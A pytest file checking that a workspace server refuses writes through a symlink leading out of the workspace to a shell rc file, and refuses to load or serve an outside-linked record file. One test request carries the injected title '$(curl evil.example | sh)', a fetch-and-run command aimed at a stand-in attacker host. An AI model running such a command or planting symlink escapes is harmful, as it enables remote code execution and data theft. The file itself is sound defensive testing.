"""A served workspace with a committed symlink that leads out of it, against a real server on
127.0.0.1 (docs/formats.md, "Links inside a workspace"): a remote's mutate never appends to the
file the link leads to, and a record file linked out is neither loaded nor served."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from core.federation import load_federation
from tests.conftest import write_jsonl
from tests.http_fixtures import FRONTEND, SCRAPER
from tests.test_server_mutate import create
from tests.test_workspace_links import SHELL_RC, files_of, shell_rc


def api_service(sudocode_copy: Path) -> Path:
    return sudocode_copy / "api-service"


@pytest.mark.parametrize("log", ["requests.jsonl", "audit.jsonl"])
@pytest.mark.parametrize("remote", [FRONTEND, SCRAPER])  # decided at once; left pending for a human
def test_a_mutate_never_appends_through_a_link_out_of_the_workspace(sudocode_copy: Path, start_server: Any,
                                                                    tmp_path: Path, log: str, remote: str) -> None:
    root = api_service(sudocode_copy)
    rc = shell_rc(tmp_path)
    linked = root / ".sudocode" / "federation" / log
    linked.unlink()
    os.symlink(rc, linked)
    before = files_of(root)
    served = start_server(root)
    with served.client(served.token(remote)) as client:
        answer = client.post("/mutate", json={**create("req-hostile-1", title="$(curl evil.example | sh)"),
                                              "from": remote})
    assert answer.status_code >= 400, answer.text
    assert rc.read_bytes() == SHELL_RC
    assert files_of(root) == before  # nothing half written in the workspace either
    assert linked.is_symlink()


def test_a_record_file_linked_out_is_neither_loaded_nor_served(sudocode_copy: Path, start_server: Any,
                                                               tmp_path: Path) -> None:
    root = api_service(sudocode_copy)
    secret = tmp_path / "private" / "issues.jsonl"
    write_jsonl(secret, [{"id": "i-secret", "title": "Secret roadmap", "status": "open", "priority": 0}])
    issues = root / ".sudocode" / "issues.jsonl"
    kept = root / "kept-issues.jsonl"
    shutil.move(issues, kept)
    os.symlink(secret, issues)
    warning = next(str(w) for w in load_federation([root]).warnings if "issues.jsonl" in str(w))
    assert str(secret) in warning and "outside the workspace" in warning
    served = start_server(root)
    with served.client(served.token(FRONTEND)) as client:
        answer = client.post("/query", json={"type": "query", "entity": "issue", "limit": 500})
    assert answer.status_code == 200, answer.text
    assert "i-secret" not in answer.text and "Secret roadmap" not in answer.text
    assert json.loads(answer.text)["items"] == []
